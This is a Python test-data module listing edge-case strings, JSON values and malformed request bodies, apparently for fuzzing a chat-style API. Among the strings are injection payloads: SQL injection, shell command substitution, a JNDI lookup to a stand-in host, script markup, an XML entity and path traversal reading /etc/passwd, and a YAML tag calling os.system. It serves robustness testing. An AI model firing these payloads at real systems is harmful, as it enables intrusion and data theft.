"""Texts and JSON values that break programs which nobody has tried them on. Our own list."""

from __future__ import annotations

TEXTS = {
    # What JSON can spell and UTF-8 cannot.
    "a lone high surrogate": "a\ud800b",
    "a lone low surrogate": "\udfff",
    "surrogates the wrong way round": "\udc00\ud800",
    # Characters that parsers and terminals act on.
    "NUL": "a\0b",
    "only NUL": "\0",
    "control characters": "\x01\x08\x0b\x1b[2J\x7f\x85",
    "line breaks of every kind": "a\nb\rc\r\nd\u2028e\u2029f",
    "tabs and a form feed": "\ta\t\x0cb",
    "a header in a text": "a\r\nSet-Cookie: x=1\r\n\r\nb",
    "an end of file": "a\x1a\x04",
    # Characters nobody sees.
    "noncharacters": "a\ufffe\uffff\U0001ffff\U0010ffffb",
    "a byte order mark": "\ufeffa",
    "zero width": "a\u200b\u200c\u200d\u2060b",
    "only zero width": "\u200b",
    "only white space": " \t\u00a0\u3000",
    "a soft hyphen": "a\u00adb",
    "right to left": "\u202eabc\u202c \u2067\u05d0\u2069",
    "tag characters": "a\U000e0061\U000e007f",
    "variation selectors": "a\ufe0f\U000e0100",
    "private use": "\ue000\U000f0000",
    "unassigned": "\u0378\U000e0fff",
    "a replacement character": "\ufffd",
    # Texts that change when they are folded, composed or counted.
    "dotless and dotted i": "\u0131\u0130iI",
    "sharp s": "\u00df\u1e9e",
    "ligatures": "\ufb01\ufb03\u0149",
    "final sigma": "\u039f\u03a3 \u039f\u03c3\u03c2",
    "composed and decomposed": "\u00e9 e\u0301 \u212b \u00c5 A\u030a",
    "hangul in pieces": "\u1112\u1161\u11ab \ud55c",
    "compatibility forms": "\uff21\uff11\u2460\u00b2\u1d2c",
    "one that becomes eighteen": "\ufdfa",
    "digits of others": "\u0661\u0967\u0e51\U0001d7d9",
    "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3fd",
    "half a flag": "\U0001f1e9",
    "marks on nothing": "\u0301\u0489",
    "a thousand marks": "z" + "\u0323\u0307" * 500,
    "indic with a virama": "\u0915\u094d\u0937\u0bcd",
    "from beyond the BMP": "\U00020000\U00012000\U0001f4a9",
    # Texts that are something else in another language.
    "null": "null",
    "undefined": "undefined",
    "not a number": "NaN",
    "infinity": "-Infinity",
    "a large number": "1e400",
    "minus zero": "-0",
    "many digits": "9" * 500,
    "hexadecimal": "0x7fffffff",
    "true": "True",
    "none": "None",
    "an empty object": "{}",
    "an attribute of everything": "__proto__",
    "a class": "__class__.__mro__",
    # Texts that end a quotation.
    "quotes": "'\"`\u201c\u2019",
    "backslashes": '\\ \\\\ \\" \\u0041 \\x00 \\n',
    "a backslash at the end": "a\\",
    "a filter that is always true": '" or id != "',
    "a filter with and": '" && tenant != "x',
    "a list in a filter": '"] or tenant in ["a',
    "a filter by pattern": '" or text like "%',
    "a comment in SQL": "'; DROP TABLE turns; --",
    "a wildcard": "%_*?[a-z]",
    "a glob of keys": "{tag}:*",
    "parameters": "$1 %s {0} :name ?",
    "a format": "%n%s%d{0.__class__}",
    "a template": "{{ 7*7 }}${7*7}#{7*7}<%= 7 %>",
    "a shell": "$(id) `id` | id; id &",
    "a lookup": "${jndi:ldap://evil.test/a}",
    "markup": "<script>alert(1)</script><![CDATA[x]]>&#0;&amp;",
    "an entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
    "a path": "../../../../etc/passwd",
    "a path of Windows": "..\\..\\con:",
    "an encoded path": "%2e%2e%2f%00%ff",
    "slashes": "a/b//c/",
    "a query": "a?b=c&d=e;f#g+h",
    "a YAML tag": "!!python/object/apply:os.system ['id']",
    "a number of a formula": "=1+1",
    # Long ones.
    "as long as an id may be": "i" * 256,
    "longer than an id may be": "i" * 257,
    "long and wide": "\U0001d518" * 256,
    "long words": "\u5b57" * 5000,
    "64 KiB of marks": "o" + "\u0308" * 32_767,
    "the most of a text": "t" * 16_000,
    "more than that": "t " * 8_001,
    "nothing": "",
}
"""By what they are."""

VALUES = {
    "a huge whole number": 10**400,
    "a number that is not finite": "1e400",
    "a number of 64 bits and one": 2**63,
    "a negative one": -(2**63) - 1,
    "minus zero": -0.0,
    "the smallest number": 5e-324,
    "true": True,
    "false": False,
    "null": None,
    "an empty list": [],
    "an empty object": {},
    "a list of a list": [[]],
    "a list of null": [None],
    "an object with an empty key": {"": ""},
    "an object like a prototype": {"__proto__": {"admin": True}, "constructor": 1},
    "a fraction": 0.1,
    "a time before the calendar": -62_135_596_801,
    "a time behind the calendar": 253_402_300_800,
}
"""JSON values where a text is expected; a text here is put into the JSON as it is."""


def nested(depth: int) -> str:
    """JSON of objects within objects."""
    return '{"a":' * depth + "1" + "}" * depth


BODIES = {
    "nothing": b"",
    "white space": b" \n",
    "half an object": b'{"messages": ',
    "two objects": b"{}{}",
    "a list": b"[]",
    "a text": b'"x"',
    "Infinity": b'{"messages": "x", "user_id": "a", "infer": Infinity}',
    "NaN": b'{"messages": "x", "user_id": "a", "metadata": {"a": NaN}}',
    "a key twice": b'{"messages": "x", "user_id": "a", "user_id": "b"}',
    "a key twice further in": b'{"messages": "x", "user_id": "a", "metadata": {"k": 1, "k": 2}}',
    "digits without end": b'{"messages": "x", "limit": ' + b"9" * 10_000 + b"}",
    "deep lists": b"[" * 100_000,
    "deep objects": nested(100_000).encode(),
    "deep and closed": f'{{"messages": "x", "metadata": {nested(5000)}}}'.encode(),
    "bytes that are no UTF-8": b'{"messages": "\xff\xfe", "user_id": "a"}',
    "encoded surrogates": b'{"messages": "\xed\xa0\x80", "user_id": "a"}',
    "overlong": b'{"messages": "\xc0\xaf", "user_id": "a"}',
    "UTF-16 without its end": '{"messages": "x"}'.encode("utf-16")[:-1],
    "a comment": b'{"messages": "x" /* c */}',
    "a comma at the end": b'{"messages": "x",}',
    "single quotes": b"{'messages': 'x'}",
    "a raw line break": b'{"messages": "a\nb", "user_id": "a"}',
    "NUL behind it": b'{"messages": "x"}\0',
    "a key that nobody knows": b'{"messages": "x", "\\ud800": 1}',
}
"""Bodies that are refused, each."""

ENCODED = ("%00", "%ff", "%c0%af", "%ed%a0%80", "%2F", "%2e%2e", "%25", "%", "%zz", "%u0041", "+")
"""Segments and values of URLs as they are sent."""
